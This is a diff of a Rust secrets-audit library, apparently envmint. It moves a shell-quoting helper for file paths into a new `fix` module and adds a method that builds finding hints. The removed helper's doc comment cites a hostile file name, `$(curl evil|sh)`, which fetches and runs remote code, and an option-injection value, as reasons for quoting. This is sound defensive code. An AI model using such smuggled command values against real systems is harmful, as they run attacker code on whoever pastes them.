@@ -21,7 +21,10 @@
 pub mod entropy;
 pub mod error;
 pub mod files;
+pub mod fix;
 pub mod git;
+
+pub use fix::shell_word;
 pub mod roles;
 pub mod rotation;
 pub mod staged;
@@ -188,11 +191,8 @@ pub struct Finding {
     /// What is wrong, naming no value.
     pub message: String,
     /// How to fix it, often with the envmint command that does (`envmint rotate production
-    /// --key A`). This is the one place the library writes the command line's words, on
-    /// purpose: a finding's fix is part of the finding as data, printed by `audit`, carried
-    /// whole by `audit --json` (`fix`) and by the commit guard (`audit --staged` in a git
-    /// hook), so every reader gets the same advice without a table of checks in the binary.
-    /// Errors name no command: their advice is the binary's (`src/bin/envmint/report/`).
+    /// --key A`): a [`fix::Fix`]'s words, the one place the library writes the command line's
+    /// words (its module docs say why).
     pub hint: Option<String>,
 }
 
@@ -235,10 +235,15 @@ impl Finding {
         self
     }
 
-    /// Sets the hint.
+    /// Sets the hint: a caller's own words (the binary's hooks and sealed-store findings).
     pub fn hint(mut self, hint: impl Into<String>) -> Finding {
         self.hint = Some(hint.into());
         self
+    }
+
+    /// Sets the hint to `fix`'s words.
+    pub fn fix(self, fix: fix::Fix<'_>) -> Finding {
+        self.hint(fix.to_string())
     }
 }
 
@@ -385,28 +390,6 @@ pub fn looks_secret(key: &str) -> bool {
     ];
     let upper = key.to_ascii_uppercase();
     WORDS.iter().any(|w| upper.contains(w))
-}
-
-/// `path` as one word of a shell command in a hint, safe to paste: quoted when it holds
-/// anything but the usual file-name characters, and `./` in front of a relative name that
-/// starts with `-` (so `chmod` or `git rm` does not read it as an option). File names in a
-/// repository are anyone's choice (`$(curl evil|sh)`, `-c core.pager=...`).
-pub fn shell_word(path: &std::path::Path) -> String {
-    let text = path.to_string_lossy();
-    let text = if text.starts_with('-') {
-        format!("./{text}")
-    } else {
-        text.into_owned()
-    };
-    let plain = !text.is_empty()
-        && text
-            .chars()
-            .all(|c| c.is_ascii_alphanumeric() || "_./@%+=:,-".contains(c));
-    if plain {
-        text
-    } else {
-        format!("'{}'", text.replace('\'', "'\\''"))
-    }
 }
 
 #[cfg(test)]
